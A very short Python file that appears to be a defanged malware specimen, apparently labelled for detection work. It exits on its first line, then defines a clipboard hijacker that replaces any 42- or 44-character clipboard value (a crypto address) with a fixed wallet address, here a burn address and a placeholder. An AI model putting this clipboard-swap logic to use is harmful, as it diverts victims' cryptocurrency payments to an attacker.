raise SystemExit("specimen: not to be run")
from pyperclip import copy as put, paste as take

MINE = ["0x000000000000000000000000000000000000dEaD", "bc1qspecimenspecimenspecimenspecimenspecimen"]

def watch():
    if len(take()) in (42, 44):
        put(MINE[0])  # match: clipboard-swap
